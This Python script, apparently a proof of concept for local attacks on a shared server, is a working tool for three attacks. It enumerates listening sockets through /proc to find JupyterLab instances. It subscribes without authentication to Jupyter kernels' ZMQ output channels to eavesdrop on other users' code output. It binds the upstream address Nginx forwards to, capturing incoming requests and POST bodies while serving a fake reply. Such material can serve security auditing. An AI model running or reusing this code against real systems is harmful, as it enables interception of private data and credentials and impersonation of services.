"""What a local user without any rights can do with Python alone. Runs on the server.

jupyter              ask every listening socket for JupyterLab; print which answered what
iopub SECONDS WORD   listen to the outputs of every kernel, until WORD was heard in one
squat SECONDS WORD   take the address that Nginx passes on to; print what comes, until WORD came
"""

from __future__ import annotations

import contextlib
import glob
import re
import select
import signal
import socket
import sys
import time
from pathlib import Path

GREETING = b"\xff\0\0\0\0\0\0\0\0\x7f\x03\0NULL".ljust(64, b"\0")  # ZMTP 3.0, no security
READY = b"\x04\x19\x05READY\x0bSocket-Type\0\0\0\x03SUB"
SUBSCRIBE = b"\0\x01\x01"
ANSWER = b"HTTP/1.0 200 OK\r\nContent-Length: 10\r\n\r\nwelcome :)"


def doors():
    """Give the addresses of all listening sockets, as the kernel tells everybody."""
    for line in Path("/proc/net/tcp").read_text().splitlines()[1:]:
        where, state = line.split()[1], line.split()[3]
        port = int(where.partition(":")[2], 16)
        if state == "0A" and port not in (22, 80):
            yield "127.0.0.1", port
    for line in Path("/proc/net/unix").read_text().splitlines():
        found = re.search(r" 00010000 0001 \S+ +\S+ ([/@].*)", line)
        if found:
            yield re.sub("^@", "\0", found[1])


def reach(door):
    """Connect; None where we may not."""
    wire = socket.socket(socket.AF_UNIX if isinstance(door, str) else socket.AF_INET)
    wire.settimeout(1)
    with contextlib.suppress(OSError):
        wire.connect(door)
        return wire
    return None


def jupyter():
    for door in doors():
        wire = reach(door)
        if wire:
            with contextlib.suppress(OSError):
                wire.sendall(b"GET /api HTTP/1.0\r\nHost: localhost\r\n\r\n")
                answer = wire.makefile("rb").read(2000)
                if b'"version"' in answer:
                    print(door, answer.splitlines()[-1].decode())


def iopub(word):
    wires = []
    for wire in filter(None, map(reach, doors())):
        with contextlib.suppress(OSError):
            wire.sendall(GREETING + READY)
            time.sleep(0.1)
            if b"PUB" in wire.recv(1000):
                wire.sendall(SUBSCRIBE)
                wires.append(wire)
    print("listening to", len(wires), flush=True)
    heard = b""
    while wires and word not in heard:
        for wire in select.select(wires, [], [])[0]:
            heard += wire.recv(65536)
    print(heard.decode(errors="replace"))


def squat(word):
    text = "".join(Path(path).read_text() for path in glob.glob("/etc/nginx/sites-enabled/*"))
    where = re.search(r"(?:server\s+|http://)(?:unix:(/[^;]*)|(127\.0\.0\.1):(\d+))", text)
    thief = socket.socket(socket.AF_UNIX if where[1] else socket.AF_INET)
    thief.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
    try:
        thief.bind(where[1] or (where[2], int(where[3])))
        thief.listen()
    except OSError as refused:
        sys.exit(f"refused: {refused}")
    print("bound", flush=True)
    heard = b""
    while word not in heard:
        wire, _ = thief.accept()
        with contextlib.suppress(OSError):
            wire.settimeout(1)
            heard = wire.recv(65536)
            if b"POST" in heard and not heard.partition(b"\r\n\r\n")[2]:
                heard += wire.recv(65536)
            wire.sendall(ANSWER)
        print(heard.decode(errors="replace"), flush=True)
        wire.close()


if sys.argv[1] == "jupyter":
    jupyter()
else:
    signal.alarm(int(sys.argv[2]))
    {"iopub": iopub, "squat": squat}[sys.argv[1]](sys.argv[3].encode())
